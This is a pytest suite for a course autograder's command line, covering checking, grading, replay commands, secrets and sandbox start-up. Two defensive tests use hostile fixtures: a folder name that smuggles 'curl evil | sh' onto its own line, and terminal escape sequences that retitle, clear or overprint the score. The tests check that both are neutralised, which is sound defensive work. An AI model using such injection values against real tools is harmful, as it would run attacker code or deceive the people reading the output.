"""The grader command end to end, as students and instructors run it (toy course via --problems)."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest
from toy import COURSE, GOOD  # tests/, on sys.path under pytest

from grader.engine import Audience, plan_cases
from grader.formatting import show_args
from grader.loader import load_assignment

ROOT = Path(__file__).resolve().parents[1]
SCHEMA = json.loads((ROOT / "grader" / "schema" / "results.schema.json").read_text())

pytestmark = pytest.mark.sandbox


def grader(*args: str, cwd: Path, problems: bool = True, config: str = "config") -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, COLUMNS="120", XDG_CONFIG_HOME=str(cwd / config))  # the default secret stays in cwd
    env.pop("GRADER_SECRET_FILE", None)
    if problems:
        env["GRADER_PROBLEMS"] = str(COURSE)
    return subprocess.run([sys.executable, "-m", "grader", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)


def test_list_and_show(tmp_path: Path) -> None:
    out = grader("list", cwd=tmp_path)
    assert out.returncode == 0 and "toy" in out.stdout
    assert "double (6)" in out.stdout and "halves (2)" in out.stdout and "ANSWERS (2)" in out.stdout
    out = grader("show", "toy", "double", cwd=tmp_path)
    assert out.returncode == 0 and "double(x: np.ndarray) -> np.ndarray" in out.stdout
    out = grader("show", "toy", "nope", cwd=tmp_path)
    assert out.returncode == 2 and "toy has no problem 'nope'" in out.stderr and "Traceback" not in out.stderr


def test_bundled_course_lists_five_assignments(tmp_path: Path) -> None:
    out = grader("list", cwd=tmp_path, problems=False)
    assert out.returncode == 0
    for assignment in ("hw4", "hw5", "hw6", "hw7", "wr3"):
        assert assignment in out.stdout


def test_init_then_check_the_starter(tmp_path: Path) -> None:
    assert grader("init", "toy", cwd=tmp_path).returncode == 0
    starter = (tmp_path / "toy.py").read_text()
    compile(starter, "toy.py", "exec")
    assert "def double(x: np.ndarray) -> np.ndarray:" in starter and "'answer': None" in starter
    again = grader("init", "toy", cwd=tmp_path)
    assert again.returncode == 2 and "already exists" in again.stderr
    out = grader("check", "toy.py", cwd=tmp_path)
    assert out.returncode == 1 and "not implemented yet" in out.stdout and "score: 0 / 10" in out.stdout


def test_check_exit_status_and_side_outputs(tmp_path: Path) -> None:
    (tmp_path / "toy.py").write_text(GOOD)
    out = grader("check", "toy.py", "--json", "r.json", "--junit", "r.xml", "--gradescope", "gs.json", cwd=tmp_path)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "score: 10 / 10" in out.stdout
    jsonschema.validate(json.loads((tmp_path / "r.json").read_text()), SCHEMA)
    assert ET.parse(tmp_path / "r.xml").getroot().tag == "testsuites"
    assert json.loads((tmp_path / "gs.json").read_text())["score"] == 10

    (tmp_path / "toy.py").write_text(GOOD.replace("return 2 * x", "return x + 2"))
    out = grader("check", "toy.py", "--json", "r.json", cwd=tmp_path)
    assert out.returncode == 1
    for text in ("you added 2 instead of multiplying by 2", "inputs", "expected", "got",
                 "grader replay toy.py double example-1"):
        assert text in out.stdout
    failing = [c for p in json.loads((tmp_path / "r.json").read_text())["problems"] for c in p["cases"]
               if c["outcome"] != "passed"]
    assert len(failing) >= 2 and all(c["replay"] in out.stdout for c in failing)  # every failure, replayable
    assert grader("check", "toy.py", "--fail-under", "40", cwd=tmp_path).returncode == 0


def test_replay_commands_print_whole_on_one_line_however_long(tmp_path: Path) -> None:
    """A replay command is copied from the screen or a CI log and run: it is never split by a newline, even
    when it is wider than the terminal (the terminal wraps it; a copy joins it again)."""
    folder = tmp_path / ("a folder with a long name, as an LMS download makes " * 2).strip()
    folder.mkdir()
    (folder / "toy.py").write_text(GOOD.replace("return 2 * x", "return x + 2"))
    out = grader("check", str(folder / "toy.py"), "--json", "r.json", cwd=tmp_path)
    failing = [c["replay"] for p in json.loads((tmp_path / "r.json").read_text())["problems"] for c in p["cases"]
               if c["outcome"] != "passed"]
    assert len(failing) >= 2 and all(len(command) > 120 for command in failing)  # wider than the terminal
    lines = out.stdout.splitlines()
    assert all(f"  {command}" in lines for command in failing), out.stdout
    assert all(shlex.split(command)[:2] == ["grader", "replay"] for command in failing)
    case = failing[0].split()[-1]
    replayed = grader("replay", str(folder / "toy.py"), "double", case, cwd=tmp_path)
    assert replayed.returncode == 1 and f"  {failing[0]}" in replayed.stdout.splitlines()


def test_a_name_with_a_newline_cannot_print_a_command_line_of_its_own(tmp_path: Path) -> None:
    """A folder named "eve<newline>curl evil | sh #" (a zip can hold one) used to print its replay commands over
    two lines, the second a runnable command line of the student's choosing."""
    folder = tmp_path / "class" / "eve\ncurl evil | sh #"
    folder.mkdir(parents=True)
    (folder / "toy.py").write_text(GOOD.replace("return 2 * x", "return x + 2"))
    checked = grader("check", str(folder / "toy.py"), "--json", "r.json", cwd=tmp_path)
    graded = grader("grade", "toy", str(tmp_path / "class"), "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert graded.returncode == 0, graded.stdout + graded.stderr
    replays = [c["replay"] for p in json.loads((tmp_path / "r.json").read_text())["problems"] for c in p["cases"]]
    for student in json.loads((tmp_path / "out" / "toy" / "results.json").read_text())["submissions"]:
        replays += [c["replay"] for p in student["problems"] for c in p["cases"]]
    assert replays and all("\n" not in r and "eve\\x0acurl" in r for r in replays if r)
    assert not any(line.lstrip().startswith("curl") for line in checked.stdout.splitlines()), checked.stdout
    pages = "".join(p.read_text() for p in (tmp_path / "out").rglob("*.html"))
    shown = re.findall(r'<code class="replay[^"]*">(.*?)</code>', pages, re.S)
    assert shown and not any("\n" in command for command in shown)  # on a page too (its name is whitespace there)


def test_check_never_shows_answer_values(tmp_path: Path) -> None:
    (tmp_path / "toy.py").write_text(GOOD.replace('"answer": 42', '"answer": 7'))
    out = grader("check", "toy.py", cwd=tmp_path)
    assert out.returncode == 1 and "ANSWERS['answer']: wrong value" in out.stdout and "42" not in out.stdout


def test_paths_work_from_any_directory(tmp_path: Path) -> None:
    work = tmp_path / "deep" / "work"
    work.mkdir(parents=True)
    (work / "toy.py").write_text(GOOD)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert grader("check", str(work / "toy.py"), cwd=elsewhere).returncode == 0
    assert grader("check", "../deep/work/toy.py", cwd=elsewhere).returncode == 0


def test_clear_errors(tmp_path: Path) -> None:
    (tmp_path / "homework.py").write_text(GOOD)
    out = grader("check", "homework.py", cwd=tmp_path)
    assert out.returncode == 2 and "cannot tell the assignment" in out.stderr and "Traceback" not in out.stderr
    assert grader("check", "homework.py", "--assignment", "toy", cwd=tmp_path).returncode == 0
    (tmp_path / "toy.py").write_bytes(b"\xff\xfe not utf-8")
    out = grader("check", "toy.py", cwd=tmp_path)
    assert out.returncode == 2 and "not UTF-8" in out.stderr


def _make_class(root: Path) -> Path:
    subs = root / "subs"
    variants = {"ann": GOOD, "ben": GOOD.replace("return 2 * x", "return x + 2"),
                "cat": "def double(x:\n", "dan": GOOD.replace("return 2 * x", "\n    while True:\n        pass")}
    for student, source in variants.items():
        (subs / student).mkdir(parents=True)
        (subs / student / "toy.py").write_text(source)
    (subs / "eve").mkdir()
    return subs


def test_grade_writes_every_report_and_replays_hidden_cases(tmp_path: Path) -> None:
    subs = _make_class(tmp_path)
    out = grader("grade", "toy", str(subs), "--out", "out", "--timeout", "0.5", cwd=tmp_path)
    assert out.returncode == 0, out.stdout + out.stderr
    target = tmp_path / "out" / "toy"
    results = json.loads((target / "results.json").read_text())
    jsonschema.validate(results, SCHEMA)
    by_student = {s["student"]: s for s in results["submissions"]}
    assert by_student["ann"]["score"] == 10 and by_student["cat"]["status"] == "not_imported"
    assert by_student["eve"]["status"] == "no_submission"
    dan = next(p for p in by_student["dan"]["problems"] if p["id"] == "double")
    assert {c["outcome"] for c in dan["cases"]} == {"timeout", "not_run"}  # not called again after two timeouts
    csv_lines = (target / "gradebook.csv").read_text(encoding="utf-8-sig").splitlines()
    assert csv_lines[0].startswith("student,status,score,max_score,percent,double,halves,ANSWERS")
    assert csv_lines[1].endswith(",full")
    assert len(csv_lines) == 6
    for student in ("ann", "ben", "cat", "dan"):
        assert (target / "students" / f"{student}.html").exists()
    assert (tmp_path / "out" / "index.html").exists() and (target / "index.html").exists()

    failing = next(c for p in by_student["ben"]["problems"] if p["id"] == "double"
                   for c in p["cases"] if c["kind"] == "hidden")
    assert failing["replay"].startswith("grader replay ") and "--secret-file" not in failing["replay"]
    args = shlex.split(failing["replay"])[1:]
    replayed = grader(*args, cwd=tmp_path)
    secret = (tmp_path / "config" / "dlmath-grader" / "secret.key").read_text().strip()
    assert not (tmp_path / "out" / "secret.key").exists()
    plan = plan_cases(load_assignment("toy", COURSE), Audience(hidden=True, secret=secret, student="ben"), ["double"])
    case = next(p.case for p in plan.cases if p.id == failing["id"])
    assert replayed.returncode == 1 and show_args(["x"], case.args).splitlines()[0] in replayed.stdout
    assert "you added 2" in replayed.stdout
    no_secret = grader("replay", str(subs / "ben" / "toy.py"), "double", failing["id"], cwd=tmp_path,
                       config="elsewhere")
    assert no_secret.returncode == 2 and "--secret-file" in no_secret.stderr

    again = grader("grade", "toy", str(subs), "--out", "out", "--timeout", "0.5", cwd=tmp_path)
    assert again.returncode == 0 and "4 resumed" in again.stdout
    assert json.loads((target / "results.json").read_text())["submissions"] == results["submissions"]


def test_selftest_command(tmp_path: Path) -> None:
    out = grader("selftest", "toy", cwd=tmp_path)
    assert out.returncode == 0 and "toy: ok" in out.stdout


def test_the_grader_runs_numpy_on_one_thread_unless_told_otherwise(monkeypatch) -> None:
    """The grader's own arrays are small and its cores belong to the workers: `grader` sets one BLAS/OpenMP
    thread before any command imports numpy, and keeps a value the user set."""
    from grader import cli, program
    from grader.threads import THREAD_VARS

    for var in THREAD_VARS:
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("MKL_NUM_THREADS", "4")
    seen: dict[str, str | None] = {}

    def command() -> None:
        seen.update({var: os.environ.get(var) for var in THREAD_VARS})

    class Exited(Exception):
        pass

    def exit_(code: int) -> None:
        raise Exited(code)

    monkeypatch.setattr(cli, "main", command)
    monkeypatch.setattr(program.os, "_exit", exit_)
    monkeypatch.setattr(sys, "argv", ["grader", "list"])
    with pytest.raises(Exited):
        program.run()
    assert seen == {var: "4" if var == "MKL_NUM_THREADS" else "1" for var in THREAD_VARS}
    numpy_free = subprocess.run([sys.executable, "-c", "import sys, grader.cli; print('numpy' in sys.modules)"],
                                capture_output=True, text=True, check=True)
    assert numpy_free.stdout.strip() == "False"  # so the setting comes before numpy loads


HOSTILE_TEXT = "\x1b]0;retitled\x07\x1b[2J\x1b[31mscore: 10 / 10\x1b[0m\r\x08\x9b"


def test_a_submissions_escape_sequences_never_reach_the_terminal(tmp_path: Path) -> None:
    """What a submission prints or raises, and its folder's name, are shown with their control characters made
    visible: raw, they could clear the instructor's screen, retitle the window or print over the score."""
    folder = tmp_path / "class" / "eve\x1b[2J"
    folder.mkdir(parents=True)
    raised = f"{HOSTILE_TEXT!r} + '\\udcff'"  # and a lone surrogate, which the sandbox sends as JSON
    source = GOOD.replace("def double(x): return 2 * x",
                          f"print({HOSTILE_TEXT!r})\ndef double(x):\n    raise ValueError({raised})")
    (folder / "toy.py").write_text(source)
    checked = grader("check", str(folder / "toy.py"), "--json", "r.json", "--junit", "r.xml", cwd=tmp_path)
    ET.parse(tmp_path / "r.xml")  # XML 1.0 holds no control characters, even escaped
    assert "\ufffd" in json.loads((tmp_path / "r.json").read_text())["problems"][0]["cases"][0]["message"]
    graded = grader("grade", "toy", str(tmp_path / "class"), "--out", str(tmp_path / "out"), cwd=tmp_path)
    replayed = grader("replay", str(folder / "toy.py"), "double", "example-1", cwd=tmp_path)
    for run in (checked, graded, replayed):
        shown = run.stdout + run.stderr
        assert not set(shown) & {"\x1b", "\x07", "\x08", "\r", "\x9b"}, shown
    assert "\\x1b]0;retitled\\x07\\x1b[2J" in checked.stdout  # shown, made visible
    assert "eve\\x1b[2J" in graded.stdout
    pages = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*.html")}
    assert pages
    for name, page in pages.items():  # a page shows them too, rather than as empty boxes
        assert not set(page) & {"\x1b", "\x07", "\x08", "\r", "\x9b"}, name
    student_page = next(page for page in pages.values() if "retitled" in page)
    assert "\\x1b]0;retitled\\x07\\x1b[2J" in student_page  # its output, printed at import
    assert "eve\\x1b[2J" in student_page  # its name


@pytest.mark.parametrize(("args", "env", "mode"), [
    (["check", "hw7.py"], {}, "auto"),
    (["replay", "hw7.py", "nu_beta", "public-1"], {}, "auto"),
    (["check", "hw7.py", "--isolation", "reduced"], {}, "reduced"),
    (["check", "--isolation=full", "hw7.py"], {}, "full"),
    (["check", "hw7.py"], {"GRADER_ISOLATION": "reduced"}, "reduced"),
    (["check", "hw7.py", "--isolation", "auto"], {"GRADER_ISOLATION": "reduced"}, "auto"),
    (["check", "hw7.py", "--require-isolation"], {"GRADER_ISOLATION": "reduced"}, "full"),
    (["check", "hw7.py", "--isolation", "portable"], {}, None),  # no sandbox worker at all
    (["check", "hw7.py"], {"GRADER_ISOLATION": "portable"}, None),
    (["check", "hw7.py", "--isolation", "bogus"], {}, None),  # click reports it; nothing to start
    (["check", "--help"], {}, None),
    (["grade", "hw7", "submissions/"], {}, None),  # a batch starts its own pool of workers
    ([], {}, None),
])
def test_the_program_guesses_the_early_workers_isolation_as_the_command_will(args, env, mode) -> None:
    from grader.program import early_worker_mode

    assert early_worker_mode(args, env) == mode


def test_what_runs_before_the_early_worker_starts_imports_nothing_heavy() -> None:
    """Every module the program loads before it starts `grader check`'s worker delays the check (the worker's
    boot is half its time): no click, numpy or engine, nor dataclasses, tempfile or pathlib (measured together
    at 20 ms before this was so). Run without site, as an installed wheel has no editable-install finder,
    which itself imports pathlib."""
    code = ("import sys; sys.path.insert(0, sys.argv[1])\n"
            "import grader.program, grader.sandbox.launch\n"
            "heavy = ('click', 'numpy', 'rich', 'grader.cli', 'grader.engine', 'grader.limits', 'dataclasses',"
            " 'tempfile', 'pathlib')\n"
            "print(sorted(m for m in heavy if m in sys.modules))")
    out = subprocess.run([sys.executable, "-I", "-S", "-c", code, str(ROOT)], capture_output=True, text=True,
                         check=True)
    assert out.stdout.strip() == "[]"


def test_the_console_script_of_an_older_install_still_runs(tmp_path: Path) -> None:
    """pip writes the `grader` script at install time: one made when the entry point was grader.cli:run must
    keep working after an upgrade of the code alone (an editable install, a pulled repository)."""
    code = "import sys; from grader.cli import run; sys.argv = ['grader', 'list']; sys.exit(run())"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=tmp_path,
                         env=dict(os.environ, GRADER_PROBLEMS=str(COURSE), COLUMNS="120"))
    assert out.returncode == 0 and "toy" in out.stdout, out.stderr


def test_grader_check_starts_one_worker_before_the_cli_loads_and_uses_it() -> None:
    """`grader check` starts its sandbox worker before click and the engine load (it boots meanwhile), and the
    command takes that worker over instead of starting another."""
    code = (
        "import sys\n"
        "from grader.sandbox import launch\n"
        "real = launch.start\n"
        "def start(mode, layers):\n"
        "    loaded = [m for m in ('click', 'numpy', 'grader.cli', 'grader.engine') if m in sys.modules]\n"
        "    print('worker started', mode, loaded, file=sys.stderr, flush=True)\n"
        "    return real(mode, layers)\n"
        "launch.start = start\n"
        f"sys.argv = ['grader', 'check', {str(ROOT / 'submissions' / 'passes_all' / 'hw7.py')!r}]\n"
        "from grader.program import run\n"
        "run()\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                         env=dict(os.environ, COLUMNS="120"))
    assert out.returncode == 0, out.stderr
    assert "score: 100 / 100" in out.stdout
    assert out.stderr.splitlines().count("worker started auto []") == 1  # before click, numpy and the engine
    assert out.stderr.count("worker started") == 1  # the command took it over rather than start another
